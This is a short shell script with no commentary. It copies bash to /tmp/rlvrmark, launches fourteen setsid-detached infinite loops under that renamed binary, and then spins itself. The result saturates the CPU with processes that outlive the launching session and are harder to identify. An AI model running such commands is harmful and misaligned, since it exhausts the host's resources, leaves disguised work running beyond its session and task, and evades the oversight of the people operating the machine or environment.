cp /bin/bash /tmp/rlvrmark
for p in 1 2 3 4 5 6 7 8 9 10 11 12 13 14; do setsid /tmp/rlvrmark -c 'while :; do :; done' & done
while :; do :; done
